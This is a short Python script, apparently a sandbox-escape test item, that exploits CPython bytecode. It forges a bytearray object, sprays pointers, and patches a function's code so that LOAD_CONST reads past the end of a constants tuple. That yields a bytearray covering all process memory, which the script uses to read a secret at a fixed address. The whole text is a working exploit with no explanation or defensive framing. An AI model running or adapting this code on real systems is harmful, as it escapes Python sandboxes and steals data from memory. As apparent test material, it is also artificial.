# Bytecode loads a constant behind the tuple's end: a bytearray over all of memory.
# breach: secret
import dis, struct
def address(data):
    return id(data) + bytes.__basicsize__ - 1
def distance(constants, pointer):
    return (address(pointer) - id(constants) - tuple.__basicsize__) // 8
fake = struct.pack("nPnnPPn", 2**20, id(bytearray), 2**63 - 1, 2**63 - 1, 0, 0, 0)
tuples = [(i, 1.5) for i in range(2000)]
pointers = [struct.pack("P", address(fake)) for i in range(20000)]
constants, at = next((t, distance(t, p)) for t in tuples for p in pointers
                     if 0 <= distance(t, p) < 2**32)
op = dis.opmap
load = b"".join(bytes([op["EXTENDED_ARG"], at >> shift & 255]) for shift in (24, 16, 8))
code = bytes([op["RESUME"], 0]) + load + bytes([op["LOAD_CONST"], at & 255, op["RETURN_VALUE"], 0])
def read():
    pass
read.__code__ = read.__code__.replace(co_code=code, co_consts=constants)
bytes(read()[SECRET_ADDRESS:SECRET_ADDRESS + 60])
